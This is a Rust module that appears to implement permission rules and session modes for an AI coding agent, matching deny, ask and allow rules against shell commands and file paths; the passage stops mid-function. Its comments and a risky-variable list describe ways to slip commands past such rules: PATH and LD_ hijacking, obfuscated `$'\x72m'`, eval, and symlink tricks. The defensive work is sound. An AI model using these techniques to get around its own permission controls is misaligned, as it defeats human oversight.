//! Permission rules and session modes, evaluated on the effective arguments.
//!
//! Rules use Claude Code's syntax: a bare tool name (`Bash`, `Read`) matches
//! every call of the tool; `Tool(pattern)` narrows it. The full decision
//! procedure, with a conformance table run by a test, is
//! `protocol/permissions.md`; in short:
//!
//! * `Bash(…)` rules are matched against each simple command the line can
//!   run, as [`crate::shell`] reads it (pipelines, lists, subshells,
//!   substitutions, `bash -c` strings, commands behind wrappers; names by
//!   basename too, quotes removed). `npm run test:*` is the legacy prefix
//!   form, `git *` a glob (`*` matches anything), anything else exact. A
//!   deny or ask rule matches if it could match any of those commands,
//!   including what candor cannot see (a dynamic name, `eval "$X"`, a
//!   line it cannot parse); an allow rule runs a line only if it covers
//!   every command and nothing in the line is opaque, assigns `PATH`-like
//!   variables or writes a file no Write/Edit allow rule allows.
//! * Path rules (`Read(…)`, `Edit(…)`, `Write(…)`, `Glob(…)`, `Grep(…)`)
//!   are globs (`*` within a directory, `**` across): `//abs` is absolute,
//!   `/p` is relative to the settings' project, `~/p` to the home
//!   directory, `p` or `./p` to the working directory; a pattern with no
//!   `/` matches at any depth (gitignore's rule). `Edit` rules cover every
//!   tool that edits files; `Read` rules also govern Glob and Grep. A path
//!   is judged as written and as it resolves (symlinks followed): the
//!   stricter answer wins.
//!
//! [`decide`] puts hooks, rules and the mode together in a fixed order
//! (documented in `protocol/hooks.md`): a rewrite can never take a call
//! past a deny rule, because rules see the rewritten arguments.

use std::fmt;
use std::path::{Path, PathBuf};

use globset::{GlobBuilder, GlobMatcher};
use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::Verdict;
use crate::shell::{self, Command, Piece, Runs, Script, WrapperKind};
use crate::tools::Tool;

/// The session's permission mode (ACP session modes use these ids).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub enum Mode {
    /// Reads inside the project run; commands and edits ask.
    #[default]
    Default,
    /// Also edits inside the project run without asking.
    AcceptEdits,
    /// Only tools that change nothing may run.
    Plan,
    /// Nothing asks (deny rules and denying hooks still refuse).
    BypassPermissions,
}

impl Mode {
    /// Every mode, in the order a client lists them.
    pub const ALL: [Mode; 4] = [
        Mode::Default,
        Mode::AcceptEdits,
        Mode::Plan,
        Mode::BypassPermissions,
    ];

    /// Whether a session in this mode asks less than one in `default`.
    pub fn asks_less_than_default(self) -> bool {
        matches!(self, Mode::AcceptEdits | Mode::BypassPermissions)
    }

    /// The mode with this ACP id (Claude Code's `defaultMode` values).
    pub fn from_id(id: &str) -> Option<Mode> {
        Mode::ALL.into_iter().find(|m| m.id() == id)
    }

    /// What a client shows.
    pub fn name(self) -> &'static str {
        match self {
            Mode::Default => "Ask before changes",
            Mode::AcceptEdits => "Accept edits",
            Mode::Plan => "Plan (read-only)",
            Mode::BypassPermissions => "Bypass permissions",
        }
    }

    pub fn description(self) -> &'static str {
        match self {
            Mode::Default => "Reads inside the project run; commands and edits ask first",
            Mode::AcceptEdits => "Edits inside the project run without asking; commands still ask",
            Mode::Plan => "Only tools that change nothing may run",
            Mode::BypassPermissions => "Nothing asks; deny rules and denying hooks still refuse",
        }
    }

    pub fn id(self) -> &'static str {
        match self {
            Mode::Default => "default",
            Mode::AcceptEdits => "acceptEdits",
            Mode::Plan => "plan",
            Mode::BypassPermissions => "bypassPermissions",
        }
    }
}

/// One permission rule.
#[derive(Clone)]
pub struct Rule {
    text: String,
    tool: String,
    pattern: Option<Pattern>,
}

#[derive(Clone)]
enum Pattern {
    /// A Bash rule: star patterns, any of which may match a command.
    Command(Vec<Vec<Tok>>),
    /// A path rule: the glob anchored at each spelling of its base.
    Path(Vec<PathGlob>),
    /// A grant: exactly this command line.
    ExactCommand(String),
    /// A grant: exactly this path.
    ExactPath(PathBuf),
}

/// A path rule's glob, with the literal text it must start and end with
/// (checked first: most paths a command names fail there, without the
/// glob's automaton).
#[derive(Clone)]
struct PathGlob {
    matcher: GlobMatcher,
    /// The glob as written, anchored.
    text: String,
    prefix: String,
    suffix: String,
}

impl PathGlob {
    fn new(text: &str, matcher: GlobMatcher) -> PathGlob {
        let meta = |c: char| matches!(c, '*' | '?' | '[' | ']' | '{' | '}' | '\\');
        let prefix: String = text.chars().take_while(|c| !meta(*c)).collect();
        let suffix: String = match text.rfind(meta) {
            Some(i) => text[i + 1..].to_owned(),
            None => text.to_owned(),
        };
        PathGlob {
            matcher,
            text: text.to_owned(),
            prefix,
            suffix,
        }
    }

    fn is_match(&self, path: &Path) -> bool {
        let text = path.to_string_lossy();
        text.starts_with(&self.prefix)
            && text.ends_with(&self.suffix)
            && self.matcher.is_match(path)
    }
}

/// A character of a rendered command or command pattern; `Star` is `*` in
/// a pattern and a part known only at run time in a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Tok {
    Ch(char),
    Star,
}

/// A pattern's tokens as text, `*` for a star.
fn spelled(toks: &[Tok]) -> String {
    toks.iter()
        .map(|t| match t {
            Tok::Ch(c) => *c,
            Tok::Star => '*',
        })
        .collect()
}

impl fmt::Debug for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

impl PartialEq for Rule {
    fn eq(&self, other: &Self) -> bool {
        self.text == other.text
    }
}

impl fmt::Display for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

/// Where a rule's relative paths are anchored.
#[derive(Debug, Clone, Copy)]
pub struct Anchors<'a> {
    /// The working directory (`p`, `./p`).
    pub cwd: &'a Path,
    /// What `/p` is relative to: the project of the settings file.
    pub project: &'a Path,
    /// `~/p`.
    pub home: Option<&'a Path>,
}

/// Tools whose calls name one path (`file_path` or `path`).
const PATH_TOOLS: [&str; 5] = ["Read", "Write", "Edit", "Glob", "Grep"];

impl Rule {
    /// Parses `Tool` or `Tool(pattern)` with `/p` relative to `root` (the
    /// form of candor's policy file and a project's settings).
    pub fn parse(text: &str, root: &Path, home: Option<&Path>) -> Result<Rule, String> {
        Rule::parse_in(
            text,
            Anchors {
                cwd: root,
                project: root,
                home,
            },
        )
    }

    /// The tool a rule's text names, when it can be told (for a rule that
    /// cannot be read: a deny rule fails closed for that tool).
    pub fn tool_of(text: &str) -> Option<&str> {
        let tool = text.trim().split('(').next()?.trim();
        (!tool.is_empty() && tool.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
            .then_some(tool)
    }

    /// Parses `Tool` or `Tool(pattern)`.
    pub fn parse_in(text: &str, anchors: Anchors<'_>) -> Result<Rule, String> {
        let text = text.trim();
        let (tool, pattern) = split_rule(text)?;
        let pattern = match pattern {
            None | Some("") | Some("*") => None,
            Some(p) if tool == "Bash" => Some(Pattern::Command(command_pattern(p))),
            Some(p) => {
                let mut globs = Vec::new();
                for absolute in anchor(p, anchors) {
                    let text_of = absolute.to_string_lossy().into_owned();
                    let matcher = GlobBuilder::new(&text_of)
                        .literal_separator(true)
                        .build()
                        .map_err(|e| format!("rule {text:?}: {e}"))?
                        .compile_matcher();
                    globs.push(PathGlob::new(&text_of, matcher));
                }
                Some(Pattern::Path(globs))
            }
        };
        Ok(Rule {
            text: text.to_owned(),
            tool: tool.to_owned(),
            pattern,
        })
    }

    /// Reads back a session grant ("allow always"): `Bash(<exact line>)` or
    /// `Tool(<exact absolute path>)`, never a pattern.
    pub fn grant(text: &str) -> Result<Rule, String> {
        let text = text.trim();
        let (tool, inner) = split_rule(text)?;
        let inner = inner.ok_or_else(|| format!("grant {text:?} names nothing"))?;
        let pattern = if tool == "Bash" {
            Pattern::ExactCommand(inner.trim().to_owned())
        } else {
            Pattern::ExactPath(PathBuf::from(inner))
        };
        Ok(Rule {
            text: text.to_owned(),
            tool: tool.to_owned(),
            pattern: Some(pattern),
        })
    }

    /// The rule as written.
    pub fn text(&self) -> &str {
        &self.text
    }

    /// Whether the rule names this tool (`Edit` names every editing tool;
    /// `Read` names the search tools too).
    fn names(&self, tool: &str) -> bool {
        self.tool == tool
            || (self.tool == "Edit" && Tool::from_name(tool).is_some_and(Tool::edits_files))
            || (self.tool == "Read" && matches!(tool, "Glob" | "Grep"))
            || mcp_server_rule_names(&self.tool, tool)
    }

    /// What the sandbox can hold of this rule as a `Read` deny rule: the
    /// paths it hides from every command, and, when the rule reaches
    /// further than named paths can (a glob), what is not held, in words
    /// for the card. `dir/**` is `dir`; `name` (any depth) is held at the
    /// top of its base only.
    pub fn read_denied_paths(&self) -> (Vec<PathBuf>, Option<(String, String)>) {
        if self.tool != "Read" {
            return (Vec::new(), None);
        }
        let not_held = |short: String, what: &str| {
            Some((
                short,
                format!(
                    "the Read deny rule `{}` {what}: commands may read it",
                    self.text
                ),
            ))
        };
        let globs = match &self.pattern {
            Some(Pattern::Path(globs)) => globs,
            Some(Pattern::ExactPath(p)) => return (vec![p.clone()], None),
            _ => {
                return (
                    Vec::new(),
                    not_held(
                        self.text.clone(),
                        "names every path, which the sandbox does not hide",
                    ),
                );
            }
        };
        let meta = |t: &str| t.contains(['*', '?', '[', ']', '{', '}', '\\']);
        let mut paths = Vec::new();
        let mut partial = false;
        let mut unheld = false;
        for g in globs {
            let t = g.text.as_str();
            if !t.starts_with('/') {
                unheld = true;
            } else if !meta(t) {
                paths.push(PathBuf::from(t));
            } else if let Some(dir) = t.strip_suffix("/**")
                && !meta(dir)
            {
                // `anchor` gave the directory itself too.
                paths.push(PathBuf::from(dir));
            } else if let Some((dir, name)) = t.split_once("/**/")
                && !meta(dir)
                && !meta(name)
            {
                paths.push(Path::new(dir).join(name));
                partial = true;
            } else {
                unheld = true;
            }
        }
        paths.sort();
        paths.dedup();
        let note = if unheld {
            not_held(
                self.text.clone(),
                "is a pattern the sandbox cannot hide (only named files and directories)",
            )
        } else if partial {
            not_held(
                format!("{} in subdirectories", self.text),
                &format!(
                    "is hidden from commands at {} only, not in subdirectories",
                    paths
                        .iter()
                        .map(|p| p.display().to_string())
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
            )
        } else {
            None
        };
        (paths, note)
    }

    /// Whether a path rule (or path grant) matches a path.
    fn matches_path(&self, path: &Path) -> bool {
        match &self.pattern {
            None => true,
            Some(Pattern::Path(globs)) => globs.iter().any(|g| g.is_match(path)),
            Some(Pattern::ExactPath(p)) => p == path,
            Some(Pattern::Command(_) | Pattern::ExactCommand(_)) => false,
        }
    }

    /// Whether this rule matches the call as a deny or ask rule would (any
    /// command of a Bash line could match; a path as written or resolved).
    /// Claude Code's `if` filter on hooks uses this; a line the parser
    /// cannot read matches (the hook runs, as Claude Code fails open).
    pub fn matches_call(&self, tool: &str, args: &Value, root: &Path) -> bool {
        if !self.names(tool) {
            return false;
        }
        if self.pattern.is_none() {
            return true;
        }
        match view(tool, args, &[], root) {
            View::Bash { script, lines, .. } => {
                bash_hit(self, lines.get_or_init(|| DenyLines::of(&script)))
            }
            View::Paths { all, .. } => all.iter().any(|p| self.matches_path(p)),
            View::Other => false,
        }
    }
}

/// Whether an MCP rule naming a whole server (`mcp__github` or
/// `mcp__github__*`, as Claude Code reads them) names `tool`
/// (`mcp__github__create_issue`).
fn mcp_server_rule_names(rule: &str, tool: &str) -> bool {
    let Some(server) = rule.strip_prefix("mcp__") else {
        return false;
    };
    let server = server.strip_suffix("__*").unwrap_or(server);
    !server.contains("__")
        && tool
            .strip_prefix("mcp__")
            .and_then(|t| t.strip_prefix(server))
            .is_some_and(|rest| rest.starts_with("__") && rest.len() > 2)
}

fn split_rule(text: &str) -> Result<(&str, Option<&str>), String> {
    let (tool, pattern) = match text.find('(') {
        None => (text, None),
        Some(open) => {
            let Some(inner) = text[open + 1..].strip_suffix(')') else {
                return Err(format!("rule {text:?}: missing the closing parenthesis"));
            };
            (&text[..open], Some(inner))
        }
    };
    // MCP tools (`mcp__<server>__<tool>`) may have `-` in their names, and
    // a rule may name every tool of a server (`mcp__github__*`).
    let mcp = tool.starts_with("mcp__");
    let body = if mcp {
        tool.strip_suffix("__*").unwrap_or(tool)
    } else {
        tool
    };
    if body.is_empty()
        || !body
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || (mcp && c == '-'))
    {
        return Err(format!("rule {text:?}: {tool:?} is not a tool name"));
    }
    Ok((tool, pattern))
}

/// The globs of a path rule made absolute, in Claude Code's forms, once for
/// the base as given and once for it with symlinks resolved.
fn anchor(pattern: &str, a: Anchors<'_>) -> Vec<PathBuf> {
    let (base, rest): (Option<&Path>, &str) = if let Some(rest) = pattern.strip_prefix("//") {
        (Some(Path::new("/")), rest)
    } else if let Some(rest) = pattern.strip_prefix("~/") {
        match a.home {
            Some(h) => (Some(h), rest),
            None => (None, pattern),
        }
    } else if let Some(rest) = pattern.strip_prefix('/') {
        (Some(a.project), rest)
    } else {
        (Some(a.cwd), pattern.strip_prefix("./").unwrap_or(pattern))
    };
    let Some(base) = base else {
        return vec![PathBuf::from(pattern)];
    };
    // gitignore's rule: a pattern without a slash matches at any depth.
    let rest = if !pattern.contains('/') && !rest.starts_with("**") {
        format!("**/{rest}")
    } else {
        rest.to_owned()
    };
    // `dir/**` names the directory itself too (a search of it reads
    // everything in it).
    let mut rests = vec![rest.clone()];
    if let Some(dir) = rest.strip_suffix("/**")
        && !dir.is_empty()
    {
        rests.push(dir.to_owned());
    }
    let real = crate::tools::resolve_links(base);
    let mut out = Vec::new();
    for r in &rests {
        out.push(base.join(r));
        if real != base {
            out.push(real.join(r));
        }
    }
    out
}

/// A Bash rule's pattern: `prefix:*` (the prefix alone or followed by a
/// space and anything), or a glob. The pattern is read as shell words, so
/// its quoting does not matter (`-m "x"` is `-m x`), and `*` stays a
/// wildcard wherever it is.
fn command_pattern(p: &str) -> Vec<Vec<Tok>> {
    if let Some(prefix) = p.strip_suffix(":*") {
        let base = glob_tokens(prefix.trim_end());
        let mut with = base.clone();
        with.extend([Tok::Ch(' '), Tok::Star]);
        vec![base, with]
    } else {
        vec![glob_tokens(p)]
    }
}

/// Stands for `*` while a pattern is read as shell words.
const STAR: char = '\u{E000}';

fn glob_tokens(p: &str) -> Vec<Tok> {
    let marked = p.replace('*', &STAR.to_string());
    let script = shell::parse(&marked);
    let words = match script.commands.as_slice() {
        [only]
            if script.unreadable.is_none()
                && script.redirects.is_empty()
                && only.words.iter().all(|w| w.text().is_some()) =>
        {
            Some(&only.words)
        }
        _ => None,
    };
    let tokens = match words {
        Some(words) => render(words, false, true),
        None => p
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
            .chars()
            .map(Tok::Ch)
            .collect(),
    };
    tokens
        .into_iter()
        .map(|t| if t == Tok::Ch(STAR) { Tok::Star } else { t })
        .collect()
}

/// A command's words as one line: joined by single spaces, the name's
/// basename if `basename`, and words that need them in single quotes if
/// `quoted` (so argument boundaries show). Parts known only at run time
/// are [`Tok::Star`].
fn render(words: &[shell::Word], basename: bool, quoted: bool) -> Vec<Tok> {
    let mut out = Vec::new();
    for (i, w) in words.iter().enumerate() {
        if i > 0 {
            out.push(Tok::Ch(' '));
        }
        match w.as_lit() {
            Some(t) => {
                let t = if i == 0 && basename {
                    t.rsplit('/').next().unwrap_or(t)
                } else {
                    t
                };
                if quoted && shell::needs_quotes(t) {
                    out.push(Tok::Ch('\''));
                    for c in t.chars() {
                        if c == '\'' {
                            out.extend("'\\''".chars().map(Tok::Ch));
                        } else {
                            out.push(Tok::Ch(c));
                        }
                    }
                    out.push(Tok::Ch('\''));
                } else {
                    out.extend(t.chars().map(Tok::Ch));
                }
            }
            None => {
                // A name like `/bin/r?` or `/usr/bin/$X`: its basename is
                // what follows the last literal `/`.
                let mut pieces: &[Piece] = &w.0;
                if i == 0
                    && basename
                    && let Some(at) = pieces
                        .iter()
                        .rposition(|p| matches!(p, Piece::Lit(s) if s.contains('/')))
                {
                    if let Piece::Lit(s) = &pieces[at] {
                        let tail = s.rsplit('/').next().unwrap_or("");
                        out.extend(tail.chars().map(Tok::Ch));
                    }
                    pieces = &pieces[at + 1..];
                }
                for p in pieces {
                    match p {
                        Piece::Lit(s) => out.extend(s.chars().map(Tok::Ch)),
                        Piece::Any => out.push(Tok::Star),
                    }
                }
            }
        }
    }
    out
}

/// Whether pattern `p` matches every value `t` can take (a `Star` in `t`
/// is matched only by a `Star` in `p`).
fn covers(p: &[Tok], t: &[Tok]) -> bool {
    let (mut pi, mut ti) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while ti < t.len() {
        match p.get(pi) {
            Some(Tok::Star) => {
                star = Some((pi, ti));
                pi += 1;
            }
            Some(Tok::Ch(c)) if t[ti] == Tok::Ch(*c) => {
                pi += 1;
                ti += 1;
            }
            _ => match star {
                Some((sp, st)) => {
                    pi = sp + 1;
                    ti = st + 1;
                    star = Some((sp, st + 1));
                }
                None => return false,
            },
        }
    }
    p[pi.min(p.len())..].iter().all(|t| *t == Tok::Star)
}

/// Whether some line is matched both by pattern `p` and by `t` (whose
/// `Star`s are unknown parts).
fn overlaps(p: &[Tok], t: &[Tok]) -> bool {
    if !t.contains(&Tok::Star) {
        return covers(p, t);
    }
    let (m, n) = (p.len(), t.len());
    let mut reach = vec![false; (m + 1) * (n + 1)];
    let at = |i: usize, j: usize| i * (n + 1) + j;
    reach[0] = true;
    for i in 0..=m {
        for j in 0..=n {
            if !reach[at(i, j)] {
                continue;
            }
            let ps = p.get(i) == Some(&Tok::Star);
            let ts = t.get(j) == Some(&Tok::Star);
            if ps {
                reach[at(i + 1, j)] = true;
                if j < n {
                    reach[at(i, j + 1)] = true;
                }
            }
            if ts {
                reach[at(i, j + 1)] = true;
                if i < m {
                    reach[at(i + 1, j)] = true;
                }
            }
            if let (Some(Tok::Ch(a)), Some(Tok::Ch(b))) = (p.get(i), t.get(j))
                && a == b
            {
                reach[at(i + 1, j + 1)] = true;
            }
        }
    }
    reach[at(m, n)]
}

/// Whether a Bash deny/ask rule could match some command of the line.
fn bash_hit(rule: &Rule, lines: &DenyLines) -> bool {
    let alts = match &rule.pattern {
        None => return true,
        Some(Pattern::Command(alts)) => alts,
        Some(Pattern::ExactCommand(_) | Pattern::Path(_) | Pattern::ExactPath(_)) => return false,
    };
    lines.anything
        || lines
            .lines
            .iter()
            .any(|l| alts.iter().any(|a| overlaps(a, l)))
}

/// How many words of a wrapper whose options candor cannot follow are
/// searched for the command it runs; a longer one could be any command.
const MAX_LOOSE_WORDS: usize = 64;

/// A Bash line as deny and ask rules see it, rendered once for all rules:
/// every command as written, quoted and by basename (and every suffix of a
/// loose wrapper), and whether the line could run any command at all.
struct DenyLines {
    lines: Vec<Vec<Tok>>,
    anything: bool,
}

impl DenyLines {
    fn of(script: &Script) -> DenyLines {
        let mut lines = Vec::new();
        let mut anything = false;
        for c in script.all_commands() {
            lines.push(render(&c.words, false, false));
            // The other forms differ only when a word needs quotes or the
            // name has a directory.
            if c.words
                .iter()
                .any(|w| w.as_lit().is_some_and(shell::needs_quotes))
            {
                lines.push(render(&c.words, false, true));
            }
            if c.words.first().is_some_and(|w| {
                w.0.iter()
                    .any(|p| matches!(p, Piece::Lit(s) if s.contains('/')))
            }) {
                lines.push(render(&c.words, true, false));
            }
            if c.loose {
                // Any suffix may be the command the wrapper runs; a long
                // one could hide any command past what is worth rendering.
                if c.words.len() > MAX_LOOSE_WORDS {
                    anything = true;
                } else {
                    for i in 1..c.words.len() {
                        lines.push(render(&c.words[i..], true, false));
                    }
                }
            }
            anything |= matches!(c.runs, Runs::Unknown { anything: true, .. });
        }
        lines.sort();
        lines.dedup();
        // Text evaluated as code, or a line the parser cannot read, could
        // hide any command (`$'\x72m'` spells `rm`).
        anything |= script.scripts().iter().any(|s| s.evaluates_text)
            || !script.all_unreadable().is_empty();
        DenyLines { lines, anything }
    }
}

/// Variables whose value changes what a command runs or loads.
const RISKY_VARIABLES: &[&str] = &[
    "RUSTC",
    "RUSTFLAGS",
    "RUSTDOCFLAGS",
    "RUSTC_WORKSPACE_WRAPPER",
    "GCONV_PATH",
    "HOME",
    "XDG_CONFIG_HOME",
    "ZDOTDIR",
    "_JAVA_OPTIONS",
    "PERLLIB",
    "RUBYLIB",
    "NODE_PATH",
    "PATH",
    "IFS",
    "ENV",
    "BASH_ENV",
    "SHELLOPTS",
    "BASHOPTS",
    "PS4",
    "PROMPT_COMMAND",
    "CDPATH",
    "PAGER",
    "MANPAGER",
    "EDITOR",
    "VISUAL",
    "BROWSER",
    "LESSOPEN",
    "LESSCLOSE",
    "NODE_OPTIONS",
    "PYTHONPATH",
    "PYTHONHOME",
    "PERL5OPT",
    "PERL5LIB",
    "RUBYOPT",
    "RUSTC_WRAPPER",
    "JAVA_TOOL_OPTIONS",
];
const RISKY_PREFIXES: [&str; 7] = [
    "BASH_FUNC_",
    "LD_",
    "DYLD_",
    "GIT_",
    "npm_config_",
    "NPM_CONFIG_",
    "CARGO_",
];

/// Whether assigning this variable can change what runs.
pub fn risky_variable(name: &str) -> bool {
    RISKY_VARIABLES.contains(&name) || RISKY_PREFIXES.iter().any(|p| name.starts_with(p))
}

/// Builtins that run nothing and change nothing outside the shell: a line
/// of allowed commands may contain them.
const INERT: [&str; 10] = [
    "true", "false", ":", "test", "[", "cd", "pushd", "popd", "echo", "pwd",
];

/// What the policy needs to know about the session to judge paths.
struct Scope<'a> {
    root: &'a Path,
    real_root: PathBuf,
    home: Option<&'a Path>,
    /// Directories already resolved in this decision (most words of a
    /// line share a few), and directories already listed.
    resolved: std::cell::RefCell<std::collections::HashMap<PathBuf, PathBuf>>,
    listed: std::cell::RefCell<std::collections::HashMap<PathBuf, Vec<(PathBuf, Entry)>>>,
    link_sets:
        std::cell::RefCell<std::collections::HashMap<PathBuf, std::collections::HashSet<PathBuf>>>,
}

impl<'a> Scope<'a> {
    fn new(root: &'a Path, home: Option<&'a Path>) -> Scope<'a> {
        Scope {
            root,
            real_root: crate::tools::resolve_links(root),
            home,
            resolved: Default::default(),
            listed: Default::default(),
            link_sets: Default::default(),
        }
    }

    /// `tools::resolve_links`, with the parent directory remembered.
    fn real(&self, lexical: &Path) -> PathBuf {
        let (Some(parent), Some(name)) = (lexical.parent(), lexical.file_name()) else {
            return crate::tools::resolve_links(lexical);
        };
        let known = self.resolved.borrow().get(parent).cloned();
        let real_parent = match known {
            Some(p) => p,
            None => {
                let p = crate::tools::resolve_links(parent);
                self.resolved
                    .borrow_mut()
                    .insert(parent.to_owned(), p.clone());
                p
            }
        };
        let path = real_parent.join(name);
        // The directory's listing says which of its entries are links.
        let link = self.is_link(&real_parent, &path);
        if link {
            crate::tools::resolve_links(&path)
        } else {
            path
        }
    }

    /// Whether `path`, an entry of `dir`, is a symbolic link (the
    /// directory's links are collected once).
    fn is_link(&self, dir: &Path, path: &Path) -> bool {
        if let Some(known) = self.link_sets.borrow().get(dir) {
            return known.contains(path);
        }
        let set: std::collections::HashSet<PathBuf> = self
            .entries(dir)
            .iter()
            .filter(|(_, kind)| *kind == Entry::Link)
            .map(|(p, _)| p.clone())
            .collect();
        let link = set.contains(path);
        self.link_sets.borrow_mut().insert(dir.to_owned(), set);
        link
    }

    /// A directory's entries, listed once (at most 4096).
    fn entries(&self, dir: &Path) -> std::cell::Ref<'_, [(PathBuf, Entry)]> {
        if !self.listed.borrow().contains_key(dir) {
            let list: Vec<(PathBuf, Entry)> = std::fs::read_dir(dir)
                .map(|entries| {
                    entries
                        .flatten()
                        .take(4096)
                        .map(|e| {
                            let kind = match e.file_type() {
                                Ok(t) if t.is_symlink() => Entry::Link,
                                Ok(t) if t.is_dir() => Entry::Dir,
                                _ => Entry::Other,
                            };
                            (e.path(), kind)
                        })
                        .collect()
                })
                .unwrap_or_default();
            self.listed.borrow_mut().insert(dir.to_owned(), list);
        }
        std::cell::Ref::map(self.listed.borrow(), |m| {
            m.get(dir).map_or(&[][..], |v| v.as_slice())
        })
    }

    fn inside(&self, p: &Path) -> bool {
        p.starts_with(self.root) || p.starts_with(&self.real_root)
    }

    /// A path a command names, as written and as it resolves.
    fn command_paths(&self, word: &str, dirs: &[PathBuf]) -> Vec<PathBuf> {
        let expanded = match (word.strip_prefix("~/"), self.home) {
            (Some(rest), Some(h)) => h.join(rest),
            _ if word == "~" => self.home.map(Path::to_owned).unwrap_or_else(|| word.into()),
            _ => PathBuf::from(word),
        };
        let mut out = Vec::new();
        let bases: Vec<&Path> = if expanded.is_absolute() {
            vec![Path::new("/")]
        } else {
            std::iter::once(self.root)
                .chain(dirs.iter().map(PathBuf::as_path))
                .collect()
        };
        for base in bases {
            let lexical = crate::tools::resolve(base, &expanded.to_string_lossy());
            let real = self.real(&lexical);
            if real != lexical {
                out.push(real);
            }
            // The kernel follows a link before it applies `..` (`q/../x`
            // with `q -> .git/hooks` is `.git/x`): that reading too.
            if expanded
                .components()
                .any(|c| c == std::path::Component::ParentDir)
            {
                let physical = crate::tools::resolve_links(&base.join(&expanded));
                if physical != lexical && !out.contains(&physical) {
                    out.push(physical);
                }
            }
            out.push(lexical);
        }
        out
    }
}

/// What a directory entry is, as its listing tells.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Entry {
    Link,
    Dir,
    Other,
}

/// What rules look at in a call.
enum View {
    /// A Bash line, read, and rendered for deny and ask rules (when one
    /// is tried).
    Bash {
        script: Box<Script>,
        lines: std::cell::OnceCell<DenyLines>,
        line: String,
    },
    /// A file tool's path: `targets` as it resolves (what the tool will
    /// open), `all` with the spellings it was given as well.
    Paths {
        targets: Vec<PathBuf>,
        all: Vec<PathBuf>,
    },
    /// A tool without a command or path.
    Other,
}

fn view(tool: &str, args: &Value, spelled: &[PathBuf], root: &Path) -> View {
    match tool {
        "Bash" => {
            let line = args.get("command").and_then(Value::as_str).unwrap_or("");
            let script = Box::new(shell::parse(line));
            View::Bash {
                lines: std::cell::OnceCell::new(),
                script,
                line: line.trim().to_owned(),
            }
        }
        t if PATH_TOOLS.contains(&t) => {
            let key = if matches!(t, "Glob" | "Grep") {
                "path"
            } else {
                "file_path"
            };
            let targets = match args.get(key).and_then(Value::as_str) {
                Some(p) => vec![crate::tools::resolve_links(&crate::tools::resolve(root, p))],
                None if matches!(t, "Glob" | "Grep") => vec![root.to_owned()],
                None => Vec::new(),
            };
            let mut all = targets.clone();
            all.extend(spelled.iter().filter(|s| !targets.contains(s)).cloned());
            View::Paths { targets, all }
        }
        _ => View::Other,
    }
}

/// A deny or ask rule of `rules` that matches the call.
fn any_match<'r>(rules: &'r [Rule], tool: &str, view: &View) -> Option<&'r Rule> {
    rules.iter().find(|r| {
        r.names(tool)
            && match view {
                _ if r.pattern.is_none() => true,
                View::Bash { script, lines, .. } => {
                    bash_hit(r, lines.get_or_init(|| DenyLines::of(script)))
                }
                View::Paths { all, .. } => all.iter().any(|p| r.matches_path(p)),
                View::Other => false,
            }
    })
}

/// How far allow rules cover a Bash line: the first rule used, and what
/// is not covered.
#[derive(Default)]
struct Coverage<'r> {
    by: Option<&'r Rule>,
    gaps: Vec<String>,
}

impl Coverage<'_> {
    fn gap(&mut self, text: String) {
        if !self.gaps.contains(&text) {
            self.gaps.push(text);
        }
    }
}

fn bash_cover<'r>(rules: &'r [Rule], script: &Script, scope: &Scope<'_>) -> Coverage<'r> {
    let mut cov = Coverage::default();
    script_cover(rules, script, &mut cov);
    for name in script.all_assigned() {
        if risky_variable(name) {
            cov.gap(format!("sets {name}, which changes what runs"));
        }
    }
    let dirs = script.all_dirs();
    for r in script.all_redirects().into_iter().filter(|r| r.writes) {
        let Some(target) = r.target.text() else {
            cov.gap(format!(
                "writes to a file named only when it runs (`{}`)",
                r.target.display()
            ));
            continue;
        };
        let relative_after_cd =
            !target.starts_with('/') && !target.starts_with('~') && !dirs.is_empty();
        let paths = scope.command_paths(&target, &[]);
        let allowed = !relative_after_cd
            && !paths.is_empty()
            && paths.iter().all(|p| {
                protected(p, scope.home).is_none()
                    && rules.iter().any(|rule| {
                        (rule.names("Write") || rule.names("Edit"))
                            && matches!(rule.pattern, Some(Pattern::Path(_)))
                            && rule.matches_path(p)
                    })
            });
        if !allowed {
            cov.gap(format!("writes to `{target}`"));
        }
    }
    cov
}

fn script_cover<'r>(rules: &'r [Rule], script: &Script, cov: &mut Coverage<'r>) -> bool {
    let mut all = true;
    if let Some(why) = &script.unreadable {
        cov.gap(format!("candor cannot read all of it ({why})"));
        all = false;
    }
    for o in &script.opaque {
        cov.gap(o.reason.clone());
        all = false;
    }
    for c in &script.commands {
        all &= command_cover(rules, c, cov);
    }
    all
}

fn command_cover<'r>(rules: &'r [Rule], c: &Command, cov: &mut Coverage<'r>) -> bool {
    let before = cov.gaps.len();
    let Some(name) = c.basename() else {
        cov.gap(format!(
            "runs a command whose name is only known when it runs (`{}`)",
            c.display()
        ));
        return false;
    };
    let direct = if rules.iter().any(|r| r.tool == "Bash") {
        let lines = allow_lines(c);
        rules
            .iter()
            .find(|r| r.tool == "Bash" && direct_cover(r, &lines))
    } else {
        None
    };
    if INERT.contains(&name.as_str()) && c.wrapper.is_none() && !c.loose {
        if let Some(r) = direct {
            cov.by.get_or_insert(r);
        }
        return true;
    }
    if let Some(r) = direct {
        cov.by.get_or_insert(r);
    }
    let ok = match (&c.runs, c.wrapper) {
        (Runs::Unknown { reason, .. }, _) => {
            cov.gap(reason.clone());
            return false;
        }
        // A driver whose commands cannot all be found is not covered by a
        // rule for the driver alone.
        _ if c.loose => direct.is_some() && c.wrapper != Some(WrapperKind::Driver),
        // `sudo`, `su -c`: only a rule for the whole command covers it.
        (_, Some(WrapperKind::Elevating)) => direct.is_some(),
        (Runs::Itself, _) => direct.is_some(),
        (Runs::Command(inner), Some(WrapperKind::Driver)) => {
            let inner_ok = command_cover(rules, inner, cov);
            direct.is_some() && inner_ok
        }
